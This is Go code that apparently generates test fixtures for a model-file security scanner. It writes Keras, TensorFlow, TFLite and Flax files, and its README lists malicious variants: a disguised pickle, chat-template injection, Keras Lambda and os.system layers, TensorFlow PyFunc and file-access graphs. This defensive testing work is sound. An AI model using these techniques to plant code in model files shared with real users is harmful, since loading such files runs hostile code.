func dense(name string, units int, activation string, inputs int) string {
	return fmt.Sprintf(`{"module": "keras.layers", "class_name": "Dense", "config": {"name": %q, "trainable": true, %s, `+
		`"units": %d, "activation": %q, "use_bias": true, `+
		`"kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": null}, "registered_name": null}, `+
		`"bias_initializer": {"module": "keras.initializers", "class_name": "Zeros", "config": {}, "registered_name": null}, `+
		`"kernel_regularizer": null, "bias_regularizer": null, "kernel_constraint": null, "bias_constraint": null}, `+
		`"registered_name": null, "build_config": {"input_shape": [null, %d]}}`, name, dtypePolicy, units, activation, inputs)
}

// sequential is a Keras 3 Sequential config holding layers after its
// input layer.
func sequential(layers ...string) string {
	input := `{"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [null, 4], "dtype": "float32", "sparse": false, "name": "input_layer"}, "registered_name": null}`
	return `{"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "trainable": true, ` + dtypePolicy + `, ` +
		`"layers": [` + strings.Join(append([]string{input}, layers...), ", ") + `], "build_input_shape": [null, 4]}, ` +
		`"registered_name": null, "build_config": {"input_shape": [null, 4]}, ` +
		`"compile_config": {"optimizer": {"module": "keras.optimizers", "class_name": "Adam", "config": {"name": "adam", "learning_rate": 0.0010000000474974513, ` +
		`"weight_decay": null, "clipnorm": null, "global_clipnorm": null, "clipvalue": null, "use_ema": false, "ema_momentum": 0.99, "ema_overwrite_frequency": null, ` +
		`"loss_scale_factor": null, "gradient_accumulation_steps": null, "beta_1": 0.9, "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": false}, "registered_name": null}, ` +
		`"loss": "mean_squared_error", "loss_weights": null, "metrics": null, "weighted_metrics": null, "run_eagerly": false, "steps_per_execution": 1, "jit_compile": false}}`
}

// kerasFile writes the zip as Keras 3's saving_lib does: stored members,
// metadata.json, config.json, then model.weights.h5.
func kerasFile(config string) []byte {
	if !json.Valid([]byte(config)) {
		log.Fatalf("invalid Keras config: %s", config)
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	when := time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC)
	for _, m := range []struct {
		name string
		data []byte
	}{
		{"metadata.json", []byte(`{"keras_version": "3.8.0", "date_saved": "2025-03-01@12:00:00"}`)},
		{"config.json", []byte(config)},
		{"model.weights.h5", kerasWeights},
	} {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: m.name, Method: zip.Store, Modified: when})
		if err != nil {
			log.Fatal(err)
		}
		if _, err := w.Write(m.data); err != nil {
			log.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		log.Fatal(err)
	}
	return buf.Bytes()
}

// ---------------------------------------------------------------------------
// TensorFlow (protobuf: SavedModel, MetaGraphDef, GraphDef, NodeDef,
// FunctionDef, AttrValue).

// pb builds a protobuf message from field numbers and values: []byte and
// string are length-delimited, int a varint, float32 a fixed32.
func pb(fields ...any) []byte {
	var b []byte
	for i := 0; i+1 < len(fields); i += 2 {
		num := uint64(fields[i].(int))
		switch v := fields[i+1].(type) {
		case []byte:
			b = appendVarint(b, num<<3|2)
			b = appendVarint(b, uint64(len(v)))
			b = append(b, v...)
		case string:
			b = appendVarint(b, num<<3|2)
			b = appendVarint(b, uint64(len(v)))
			b = append(b, v...)
		case int:
			b = appendVarint(b, num<<3)
			b = appendVarint(b, uint64(v))
		case float32:
			b = appendVarint(b, num<<3|5)
			b = binary.LittleEndian.AppendUint32(b, math.Float32bits(v))
		default:
			log.Fatalf("pb: %T", v)
		}
	}
	return b
}

func appendVarint(b []byte, v uint64) []byte {
	for v >= 0x80 {
		b = append(b, byte(v)|0x80)
		v >>= 7
	}
	return append(b, byte(v))
}

// attr is one entry of a NodeDef's map<string, AttrValue>.
type attr struct {
	key   string
	value []byte // an AttrValue
}

// AttrValue helpers.
func typeAttr(dt int) []byte    { return pb(6, dt) } // type
func boolAttr(v bool) []byte    { return pb(5, map[bool]int{true: 1}[v]) }
func funcAttr(f string) []byte  { return pb(10, pb(1, f)) }
func strAttr(s string) []byte   { return pb(2, s) }
func shapeAttr(d ...int) []byte { return pb(7, shape(d...)) }

func shape(d ...int) []byte {
	var b []byte
	for _, n := range d {
		b = append(b, pb(2, pb(1, n))...) // -1, an unknown size, is a 10-byte varint
	}
	return b
}

// tensorAttr is an AttrValue holding a float tensor of shape d.
func tensorAttr(values []float32, d ...int) []byte {
	return pb(8, pb(1, 1, 2, shape(d...), 4, f32s(values...)))
}

// nodeDef builds a NodeDef with its attributes and inputs.
func nodeDef(name, op string, attrs []attr, inputs ...string) []byte {
	b := pb(1, name, 2, op)
	for _, in := range inputs {
		b = append(b, pb(3, in)...)
	}
	sort.Slice(attrs, func(i, j int) bool { return attrs[i].key < attrs[j].key })
	for _, a := range attrs {
		b = append(b, pb(5, pb(1, a.key, 2, a.value))...)
	}
	return b
}

// functionDef builds a FunctionDef: its signature (name, inputs, outputs),
// its nodes and its ret map.
func functionDef(name string, inputs, outputs []string, ret map[string]string, nodes ...[]byte) []byte {
	sig := pb(1, name)
	for _, in := range inputs {
		sig = append(sig, pb(2, pb(1, in, 3, 1))...)
	}
	for _, out := range outputs {
		sig = append(sig, pb(3, pb(1, out, 3, 1))...)
	}
	b := pb(1, sig)
	for _, n := range nodes {
		b = append(b, pb(3, n)...)
	}
	keys := make([]string, 0, len(ret))
	for k := range ret {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		b = append(b, pb(4, pb(1, k, 2, ret[k]))...)
	}
	return b
}

// graphDef builds a GraphDef: nodes, a library of functions, versions.
func graphDef(nodes [][]byte, producer int, functions ...[]byte) []byte {
	var b []byte
	for _, n := range nodes {
		b = append(b, pb(1, n)...)
	}
	if len(functions) > 0 {
		var lib []byte
		for _, f := range functions {
			lib = append(lib, pb(1, f)...)
		}
		b = append(b, pb(2, lib)...)
	}
	return append(b, pb(4, pb(1, producer, 2, 12))...)
}

var floatT = []attr{{"T", typeAttr(1)}}

// plainGraph is the graph of a SavedModel of a Dense(8, relu) layer, as
// tf.saved_model.save writes it: the main graph holds the variables, the
// signature's placeholder and the calls; the library holds the serving
// function and the saver's functions. extra nodes go into the serving
// function, extraInputs become placeholders of the main graph fed to it.
func plainGraph(extra [][]byte, extraInputs []string) []byte {
	const serve, wrapper = "__inference_serving_default_1029", "__inference_signature_wrapper_1045"
	const save, restore = "__inference__traced_save_1101", "__inference__traced_restore_1137"
	resource := []attr{{"dtype", typeAttr(1)}, {"shape", shapeAttr(4, 8)}, {"shared_name", strAttr("dense/kernel")}, {"container", strAttr("")}}
	bias := []attr{{"dtype", typeAttr(1)}, {"shape", shapeAttr(8)}, {"shared_name", strAttr("dense/bias")}, {"container", strAttr("")}}
	callInputs := append([]string{"serving_default_input_layer", "dense/kernel", "dense/bias"}, extraInputs...)
	main := [][]byte{
		nodeDef("dense/kernel", "VarHandleOp", resource),
		nodeDef("dense/bias", "VarHandleOp", bias),
		nodeDef("NoOp", "NoOp", nil),
		nodeDef("Const", "Const", []attr{{"dtype", typeAttr(7)}, {"value", pb(8, pb(1, 7, 2, shape(), 8, "\n"))}}),
		nodeDef("serving_default_input_layer", "Placeholder", []attr{{"dtype", typeAttr(1)}, {"shape", shapeAttr(-1, 4)}}),
	}
	for _, in := range extraInputs {
		main = append(main, nodeDef(in, "Placeholder", []attr{{"dtype", typeAttr(7)}, {"shape", shapeAttr()}}))
	}
	main = append(main,
		nodeDef("StatefulPartitionedCall", "StatefulPartitionedCall", []attr{{"f", funcAttr(wrapper)}, {"config", strAttr("")}, {"executor_type", strAttr("")}}, callInputs...),
		nodeDef("saver_filename", "Placeholder", []attr{{"dtype", typeAttr(7)}, {"shape", shapeAttr()}}),
		nodeDef("StatefulPartitionedCall_1", "StatefulPartitionedCall", []attr{{"f", funcAttr(save)}}, "saver_filename", "dense/kernel", "dense/bias", "Const"),
		nodeDef("StatefulPartitionedCall_2", "StatefulPartitionedCall", []attr{{"f", funcAttr(restore)}}, "saver_filename", "dense/kernel", "dense/bias"),
	)
	serveNodes := append([][]byte{
		nodeDef("dense/MatMul/ReadVariableOp", "ReadVariableOp", []attr{{"dtype", typeAttr(1)}}, "dense_matmul_readvariableop_resource"),
		nodeDef("dense/MatMul", "MatMul", append([]attr{{"transpose_a", boolAttr(false)}, {"transpose_b", boolAttr(false)}}, floatT...), "input_layer", "dense/MatMul/ReadVariableOp:value:0"),
		nodeDef("dense/BiasAdd/ReadVariableOp", "ReadVariableOp", []attr{{"dtype", typeAttr(1)}}, "dense_biasadd_readvariableop_resource"),
		nodeDef("dense/Add", "Add", floatT, "dense/MatMul:product:0", "dense/BiasAdd/ReadVariableOp:value:0"),
		nodeDef("dense/Relu", "Relu", floatT, "dense/Add:z:0"),
		nodeDef("Identity", "Identity", floatT, "dense/Relu:activations:0"),
	}, extra...)
	serveFn := functionDef(serve, []string{"input_layer", "dense_matmul_readvariableop_resource", "dense_biasadd_readvariableop_resource"}, []string{"identity"},
		map[string]string{"identity": "Identity:output:0"}, serveNodes...)
	wrapperFn := functionDef(wrapper, []string{"input_layer", "unknown", "unknown_0"}, []string{"identity"}, map[string]string{"identity": "StatefulPartitionedCall:output:0"},
		nodeDef("StatefulPartitionedCall", "StatefulPartitionedCall", []attr{{"f", funcAttr(serve)}}, "input_layer", "unknown", "unknown_0"),
		nodeDef("Identity", "Identity", floatT, "StatefulPartitionedCall:output:0"))
	str := []attr{{"T", typeAttr(7)}}
	saveFn := functionDef(save, []string{"file_prefix", "read_disablecopyonread_dense_kernel", "read_1_disablecopyonread_dense_bias", "savev2_const"}, []string{"identity_5"},
		map[string]string{"identity_5": "Identity_5:output:0"},
		nodeDef("StaticRegexFullMatch", "StaticRegexFullMatch", []attr{{"pattern", strAttr("^s3://.*")}}, "file_prefix"),
		nodeDef("Const", "Const", []attr{{"dtype", typeAttr(7)}, {"value", pb(8, pb(1, 7, 2, shape(), 8, ".part"))}}),
		nodeDef("Select", "Select", str, "StaticRegexFullMatch:output:0", "Const:output:0"),
		nodeDef("StringJoin", "StringJoin", []attr{{"N", pb(3, 2)}}, "file_prefix", "Select:output:0"),
		nodeDef("ShardedFilename", "ShardedFilename", nil, "StringJoin:output:0"),
		nodeDef("Read/ReadVariableOp", "ReadVariableOp", []attr{{"dtype", typeAttr(1)}}, "read_disablecopyonread_dense_kernel"),
		nodeDef("Read_1/ReadVariableOp", "ReadVariableOp", []attr{{"dtype", typeAttr(1)}}, "read_1_disablecopyonread_dense_bias"),
		nodeDef("SaveV2", "SaveV2", []attr{{"dtypes", pb(1, pb(6, []byte{1, 1, 7}))}}, "ShardedFilename:filename:0", "Read/ReadVariableOp:value:0", "Read_1/ReadVariableOp:value:0", "savev2_const"),
		nodeDef("MergeV2Checkpoints", "MergeV2Checkpoints", nil, "ShardedFilename:filename:0", "file_prefix"),
		nodeDef("Identity_5", "Identity", str, "file_prefix"),
		nodeDef("NoOp", "NoOp", nil))
	restoreFn := functionDef(restore, []string{"file_prefix", "assignvariableop_dense_kernel", "assignvariableop_1_dense_bias"}, []string{"identity_3"},
		map[string]string{"identity_3": "Identity_3:output:0"},
		nodeDef("RestoreV2", "RestoreV2", []attr{{"dtypes", pb(1, pb(6, []byte{1, 1}))}}, "file_prefix"),
		nodeDef("AssignVariableOp", "AssignVariableOp", []attr{{"dtype", typeAttr(1)}}, "assignvariableop_dense_kernel", "RestoreV2:tensors:0"),
		nodeDef("AssignVariableOp_1", "AssignVariableOp", []attr{{"dtype", typeAttr(1)}}, "assignvariableop_1_dense_bias", "RestoreV2:tensors:1"),
		nodeDef("NoOp", "NoOp", nil),
		nodeDef("Identity_3", "Identity", str, "file_prefix"))
	return graphDef(main, 1882, serveFn, wrapperFn, saveFn, restoreFn)
}

// savedModel wraps a graph in a SavedModel: schema version 1, one
// MetaGraphDef (meta_info_def, graph_def, saver_def, signature_def).
func savedModel(graph []byte, tfVersion string) []byte {
	metaInfo := pb(4, "serve", 5, tfVersion, 6, "v"+tfVersion+"-rc3-6-gb7b3cd9d9", 7, 1)
	saver := pb(1, "saver_filename:0", 2, "StatefulPartitionedCall_1:0", 3, "StatefulPartitionedCall_2", 4, 5, 5, 1, 6, float32(10000), 7, 2)
	tensorInfo := func(name string, d ...int) []byte { return pb(1, name, 2, 1, 3, shape(d...)) }
	sig := pb(1, pb(1, "input_layer", 2, tensorInfo("serving_default_input_layer:0", -1, 4)),
		2, pb(1, "output_0", 2, tensorInfo("StatefulPartitionedCall:0", -1, 8)),
		3, "tensorflow/serving/predict")
	meta := pb(1, metaInfo, 2, graph, 3, saver, 5, pb(1, "serving_default", 2, sig))
	return pb(1, 1, 2, meta)
}

// fingerprint is a FingerprintDef (fingerprint.pb).
func fingerprint() []byte {
	var b []byte
	for i, h := range []uint64{0x9c3e1f0b5a7d2e41, 0x1b2c3d4e5f607182, 0x2a3b4c5d6e7f8091, 0x3a4b5c6d7e8f90a1, 0x4a5b6c7d8e9fa0b1} {
		b = appendVarint(b, uint64(i+1)<<3)
		b = appendVarint(b, h)
	}
	return append(b, pb(6, pb(1, 1))...)
}

// frozenGraph is a frozen GraphDef: the variables are Const nodes.
func frozenGraph(extra [][]byte) []byte {
	kernel := make([]float32, 4*8)
	rng := lcg(7)
	for i := range kernel {
		kernel[i] = float32(rng.normal() * 0.5)
	}
	nodes := [][]byte{
		nodeDef("input", "Placeholder", []attr{{"dtype", typeAttr(1)}, {"shape", shapeAttr(-1, 4)}}),
		nodeDef("dense/kernel", "Const", []attr{{"dtype", typeAttr(1)}, {"value", tensorAttr(kernel, 4, 8)}}),
		nodeDef("dense/bias", "Const", []attr{{"dtype", typeAttr(1)}, {"value", tensorAttr(make([]float32, 8), 8)}}),
		nodeDef("dense/MatMul", "MatMul", append([]attr{{"transpose_a", boolAttr(false)}, {"transpose_b", boolAttr(false)}}, floatT...), "input", "dense/kernel"),
		nodeDef("dense/Add", "Add", floatT, "dense/MatMul", "dense/bias"),
		nodeDef("dense/Relu", "Relu", floatT, "dense/Add"),
	}
	nodes = append(nodes, extra...)
	last := "dense/Relu"
	if len(extra) > 0 {
		last = "PyFunc"
	}
	nodes = append(nodes, nodeDef("output", "Identity", floatT, last))
	return graphDef(nodes, 1882)
}

// ---------------------------------------------------------------------------
// TFLite (a FlatBuffer of the schema in tensorflow/lite/schema/schema.fbs).

// A flatbuffer builder that writes forward: a vtable, its table, then what
// the table refers to, so that every uoffset_t points forward. A tbl lists
// the fields by field id; nil is absent.
type (
	tbl  []any
	u8   uint8
	i32  int32
	f32  float32
	ints []int32
)

type fbWriter struct{ b []byte }

func (w *fbWriter) pad(a int) {
	for len(w.b)%a != 0 {
		w.b = append(w.b, 0)
	}
}

func (w *fbWriter) put32(v uint32) { w.b = binary.LittleEndian.AppendUint32(w.b, v) }

// patch stores at at the uoffset_t to target.
func (w *fbWriter) patch(at, target int) {
	binary.LittleEndian.PutUint32(w.b[at:], uint32(target-at))
}

func (w *fbWriter) object(v any) int {
	switch v := v.(type) {
	case tbl:
		return w.table(v)
	case string:
		w.pad(4)
		pos := len(w.b)
		w.put32(uint32(len(v)))
		w.b = append(append(w.b, v...), 0)
		return pos
	case []byte:
		// Buffer data: 16-byte aligned, as the TFLite converter writes it.
		for (len(w.b)+4)%16 != 0 {
			w.b = append(w.b, 0)
		}
		pos := len(w.b)
		w.put32(uint32(len(v)))
		w.b = append(w.b, v...)
		return pos
	case ints:
		w.pad(4)
		pos := len(w.b)
		w.put32(uint32(len(v)))
		for _, x := range v {
			w.put32(uint32(x))
		}
		return pos
	case []tbl:
		w.pad(4)
		pos := len(w.b)
		w.put32(uint32(len(v)))
		slots := len(w.b)
		for range v {
			w.put32(0)
		}
		for i, e := range v {
			w.patch(slots+4*i, w.table(e))
		}
		return pos
	}
	log.Fatalf("flatbuffer: %T", v)
	return 0
}

func (w *fbWriter) table(t tbl) int {
	// Layout: soffset_t, then 4-byte fields, then 1-byte fields.
	offs := make([]uint16, len(t))
	size := 4
	for pass := 0; pass < 2; pass++ {
		for i, f := range t {
			if f == nil {
				continue
			}
			_, small := f.(u8)
			if small != (pass == 1) {
				continue
			}
			offs[i] = uint16(size)
			if small {
				size++
			} else {
				size += 4
			}
		}
	}
	vtSize := 4 + 2*len(t)
	for (len(w.b)+vtSize)%4 != 0 {
		w.b = append(w.b, 0)
	}
	vt := len(w.b)
	w.b = binary.LittleEndian.AppendUint16(w.b, uint16(vtSize))
	w.b = binary.LittleEndian.AppendUint16(w.b, uint16(size))
	for _, o := range offs {
		w.b = binary.LittleEndian.AppendUint16(w.b, o)
	}
	pos := len(w.b)
	w.b = append(w.b, make([]byte, size)...)
	binary.LittleEndian.PutUint32(w.b[pos:], uint32(pos-vt))
	type ref struct {
		at int
		v  any
	}
	var refs []ref
	for i, f := range t {
		at := pos + int(offs[i])
		switch f := f.(type) {
		case nil:
		case u8:
			w.b[at] = byte(f)
		case i32:
			binary.LittleEndian.PutUint32(w.b[at:], uint32(f))
		case f32:
			binary.LittleEndian.PutUint32(w.b[at:], math.Float32bits(float32(f)))
		default:
			refs = append(refs, ref{at, f})
		}
	}
	for _, r := range refs {
		w.patch(r.at, w.object(r.v))
	}
	return pos
}

// tflite schema constants.
const (
	opFullyConnected = 9
	opSoftmax        = 25
	opLogistic       = 14
	opCustom         = 32
	optsFC           = 8 // BuiltinOptions FullyConnectedOptions
	optsSoftmax      = 9 // BuiltinOptions SoftmaxOptions
	actRelu          = 1
)

func opcode(builtin int32, custom string) tbl {
	t := tbl{u8(min(builtin, 127)), nil, i32(1), i32(builtin)}
	if custom != "" {
		t[1] = custom
	}
	return t
}

// tensor is a Tensor table: shape, type (0 FLOAT32), buffer, name.
func tensor(name string, buffer int32, shape ...int32) tbl {
	return tbl{ints(shape), nil, i32(buffer), name}
}

// operator is an Operator table.
func operator(code int32, inputs, outputs []int32, optsType u8, opts tbl) tbl {
	t := tbl{i32(code), ints(inputs), ints(outputs), nil, nil}
	if opts != nil {
		t[3], t[4] = optsType, opts
	}
	return t
}

// tfliteModel writes a classifier head (FULLY_CONNECTED, FULLY_CONNECTED,
// SOFTMAX), or with custom set a detection head whose post-processing is
// the custom operator TFLite_Detection_PostProcess.
func tfliteModel(custom bool) []byte {
	rng := lcg(11)
	weights := func(n int) []byte {
		v := make([]float32, n)
		for i := range v {
			v[i] = float32(rng.normal() * 0.3)
		}
		return f32s(v...)
	}
	runtime := []byte("1.14.0\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00")
	var codes, ops, tensors, buffers []tbl
	var inputs, outputs ints
	if !custom {
		codes = []tbl{opcode(opFullyConnected, ""), opcode(opSoftmax, "")}
		tensors = []tbl{
			tensor("serving_default_input:0", 1, 1, 4),
			tensor("sequential/dense/MatMul", 2, 8, 4),
			tensor("sequential/dense/BiasAdd/ReadVariableOp", 3, 8),
			tensor("sequential/dense/MatMul;sequential/dense/Relu;sequential/dense/BiasAdd", 4, 1, 8),
			tensor("sequential/dense_1/MatMul", 5, 3, 8),
			tensor("sequential/dense_1/BiasAdd/ReadVariableOp", 6, 3),
			tensor("sequential/dense_1/MatMul;sequential/dense_1/BiasAdd", 7, 1, 3),
			tensor("StatefulPartitionedCall:0", 8, 1, 3),
		}
		ops = []tbl{
			operator(0, []int32{0, 1, 2}, []int32{3}, optsFC, tbl{u8(actRelu)}),
			operator(0, []int32{3, 4, 5}, []int32{6}, optsFC, tbl{u8(0)}),
			operator(1, []int32{6}, []int32{7}, optsSoftmax, tbl{f32(1)}),
		}
		buffers = []tbl{{}, {}, {weights(32)}, {make([]byte, 32)}, {}, {weights(24)}, {make([]byte, 12)}, {}, {}, {runtime}}
		inputs, outputs = ints{0}, ints{7}
	} else {
		codes = []tbl{opcode(opLogistic, ""), opcode(opCustom, "TFLite_Detection_PostProcess")}
		tensors = []tbl{
			tensor("raw_outputs/box_encodings", 1, 1, 16, 4),
			tensor("raw_outputs/class_predictions", 2, 1, 16, 3),
			tensor("anchors", 3, 16, 4),
			tensor("Squeeze;convert_scores", 4, 1, 16, 3),
			tensor("TFLite_Detection_PostProcess", 5, 1, 4, 4),
			tensor("TFLite_Detection_PostProcess:1", 6, 1, 4),
			tensor("TFLite_Detection_PostProcess:2", 7, 1, 4),
			tensor("TFLite_Detection_PostProcess:3", 8, 1),
		}
		post := operator(1, []int32{0, 3, 2}, []int32{4, 5, 6, 7}, 0, nil)
		// custom_options (field 5), custom_options_format FLEXBUFFERS (field 6, 0).
		post = append(post, []byte("max_detections\x00max_classes_per_detection\x00num_classes\x00\x04\x01\x03"))
		ops = []tbl{operator(0, []int32{1}, []int32{3}, 0, nil), post}
		buffers = []tbl{{}, {}, {}, {weights(64)}, {}, {}, {}, {}, {}, {runtime}}
		inputs, outputs = ints{0, 1}, ints{4, 5, 6, 7}
	}
	subgraph := tbl{tensors, inputs, outputs, ops, "main"}
	metadata := []tbl{{"min_runtime_version", i32(len(buffers) - 1)}}
	model := tbl{i32(3), codes, []tbl{subgraph}, "MLIR Converted.", buffers, nil, metadata}
	w := &fbWriter{b: []byte{0, 0, 0, 0, 'T', 'F', 'L', '3'}}
	w.patch(0, w.table(model))
	return w.b
}

// ---------------------------------------------------------------------------
// Flax msgpack (flax.serialization.to_bytes: msgpack-python's packb with
// Flax's extension types; an ndarray is ext 1 holding the packed tuple
// (shape, dtype name, raw bytes)).

type mp struct{ b []byte }

func (m *mp) str(s string) *mp {
	switch n := len(s); {
	case n < 32:
		m.b = append(m.b, 0xa0|byte(n))
	case n < 256:
		m.b = append(m.b, 0xd9, byte(n))
	default:
		m.b = append(m.b, 0xda, byte(n>>8), byte(n))
	}
	m.b = append(m.b, s...)
	return m
}

func (m *mp) mapHeader(n int) *mp { m.b = append(m.b, 0x80|byte(n)); return m }

func (m *mp) arrayHeader(n int) *mp { m.b = append(m.b, 0x90|byte(n)); return m }

func (m *mp) uint(v int) *mp {
	if v < 128 {
		m.b = append(m.b, byte(v))
	} else {
		m.b = append(m.b, 0xcd, byte(v>>8), byte(v))
	}
	return m
}

func (m *mp) bin(data []byte) *mp {
	switch n := len(data); {
	case n < 256:
		m.b = append(m.b, 0xc4, byte(n))
	case n < 1<<16:
		m.b = append(m.b, 0xc5, byte(n>>8), byte(n))
	default:
		m.b = binary.BigEndian.AppendUint32(append(m.b, 0xc6), uint32(n))
	}
	m.b = append(m.b, data...)
	return m
}

// ext writes an extension value the way msgpack-python does: fixext for
// payloads of 1, 2, 4, 8 or 16 bytes, else ext 8, 16 or 32.
func (m *mp) ext(code int8, payload []byte) *mp {
	fixed := map[int]byte{1: 0xd4, 2: 0xd5, 4: 0xd6, 8: 0xd7, 16: 0xd8}
	switch n := len(payload); {
	case fixed[n] != 0:
		m.b = append(m.b, fixed[n])
	case n < 256:
		m.b = append(m.b, 0xc7, byte(n))
	case n < 1<<16:
		m.b = append(m.b, 0xc8, byte(n>>8), byte(n))
	default:
		m.b = binary.BigEndian.AppendUint32(append(m.b, 0xc9), uint32(n))
	}
	m.b = append(append(m.b, byte(code)), payload...)
	return m
}

// ndarray writes a float32 array as Flax's ext 1.
func (m *mp) ndarray(data []byte, shape ...int) *mp {
	inner := &mp{}
	inner.arrayHeader(3).arrayHeader(len(shape))
	for _, d := range shape {
		inner.uint(d)
	}
	inner.str("float32").bin(data)
	return m.ext(1, inner.b)
}

// flaxModel writes the params of a two-layer MLP; with extra set, an
// opt_state member holds it as a value of extension type 42.
func flaxModel(extra []byte) []byte {
	rng := lcg(3)
	weights := func(n int) []byte {
		v := make([]float32, n)
		for i := range v {
			v[i] = float32(rng.normal() * 0.2)
		}
		return f32s(v...)
	}
	m := &mp{}
	if extra != nil {
		m.mapHeader(2)
	} else {
		m.mapHeader(1)
	}
	m.str("params").mapHeader(2)
	m.str("Dense_0").mapHeader(2).str("bias").ndarray(make([]byte, 4*16), 16).str("kernel").ndarray(weights(4*16), 4, 16)
	m.str("Dense_1").mapHeader(2).str("bias").ndarray(make([]byte, 4*2), 2).str("kernel").ndarray(weights(16*2), 16, 2)
	if extra != nil {
		m.str("opt_state").ext(42, extra)
	}
	return m.b
}

// ---------------------------------------------------------------------------

const readme = `# testdata/formats

Benign, malicious and suspicious files of every format Violet analyzes
besides the pickle family and ONNX, side by side, so that one

    go run ./cmd/violet scan testdata/formats

shows the scanner end to end. ` + "`expected.tsv`" + ` labels each file (or, for a
model folder scanned as a whole, the folder):

- ` + "`benign`" + `: the scan passes and reports nothing above low;
- ` + "`malicious`" + `: the scan fails (a finding of high severity or above);
- ` + "`suspicious`" + `: findings of medium severity, the scan passes: the user
  should look, but the file is not known to be hostile.

The note of a malicious or suspicious row quotes the evidence of at least one
finding the scanner reports for it (or, for findings that carry no evidence,
the rule id). ` + "`scan/formats_test.go`" + ` (TestFormatFixtures) checks every row, and
that every file has a row.

| folder | what |
|---|---|
| benign/hf-repo | a Hugging Face model folder: config.json (LlamaForCausalLM), generation_config.json, tokenizer_config.json with the Llama 3 chat template, special_tokens_map.json, model.safetensors, chat_template.jinja (ChatML) |
| benign/tokenizers | tokenizer_config.json of ChatML, Mistral v0.3 and Gemma models |
| benign/gguf | GGUF v3 (ChatML and Gemma chat templates), v2 and v1 files |
| benign/keras | a Keras 3 .keras Sequential of Dense layers |
| benign/tensorflow | a SavedModel (with its saver functions) and a frozen GraphDef |
| benign/tflite, benign/flax | a TFLite model of builtin operators, a Flax msgpack checkpoint |
| malicious | a pickle named .safetensors, a GGUF with the CVE-2024-34359 template, template injections in tokenizer_config.json and chat_template.jinja, Keras Lambda bytecode and an os.system layer (CVE-2025-1550 style), TensorFlow ReadFile/WriteFile and PyFunc graphs, a model folder whose remote code imports os and subprocess |
| suspicious | a TFLite custom operator, an unexpected msgpack extension type, overlapping safetensors tensors, a misaligned GGUF tensor, a TensorFlow op outside the core set, a Keras custom object |

## How the files are made

All of them (but the ` + "`keras-h5`" + ` folders, made elsewhere, and listed in
expected.tsv by their maker) are written by a deterministic Go program:

    go run ./testdata/gen/formats

run from the repository root. It rewrites this folder, README included.

No file here was made by the real libraries: Debian ships no TensorFlow,
Keras, safetensors or GGUF tooling. The generator writes each format from its
specification (the safetensors header, llama.cpp's GGUF layout, the
TensorFlow protobufs, the TFLite FlatBuffer schema, msgpack and Flax's
extension types, the Keras 3 zip) and from the builders of the analyzers'
tests. The chat templates are the real ones of the model families, copied
from analyzer/template/testdata. Two pieces come from real tools, once, and
are embedded in the generator: the model.weights.h5 member of the .keras files
(written by h5py, testdata/gen/formats/make_weights_h5.py) and the marshaled
bytecode of the Keras Lambda (CPython 3.11 marshal.dumps of a lambda that is
compiled, never run).

The ONNX and pickle-family fixtures (PyTorch, scikit-learn, joblib, NumPy,
pandas...) made by the real libraries are in testdata/models.
`
